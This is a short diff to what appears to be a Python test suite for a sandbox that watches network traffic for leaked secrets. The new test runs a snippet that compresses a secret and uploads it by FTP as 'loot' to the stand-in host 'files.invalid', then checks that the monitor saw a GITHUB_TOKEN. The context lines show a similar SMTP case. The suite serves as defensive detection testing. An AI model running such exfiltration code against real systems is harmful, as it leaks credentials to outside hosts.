@@ -253,6 +253,16 @@ with smtplib.SMTP('mx.invalid', 587, timeout=5) as mail:
     assert (talk["tls"], talk["what"]) == ("ended", {"GITHUB_TOKEN"})
 
 
+async def test_ftp__an_upload_is_read(lab: Lab) -> None:
+    code = """
+import ftplib, io
+with ftplib.FTP('files.invalid', 'user', 'word', timeout=20) as link:
+    link.storbinary('STOR loot', io.BytesIO(gzip.compress(SECRET.encode())))
+"""
+    talks = told(await run(lab, code))
+    assert {talk["port"]: talk["what"] for talk in talks} == {21: set(), 49821: {"GITHUB_TOKEN"}}
+
+
 async def test_nothing__is_said_by_a_box_that_says_nothing(lab: Lab) -> None:
     outcome = await run(lab, "import email")
     assert outcome.blobs["sinkhole"] == b""
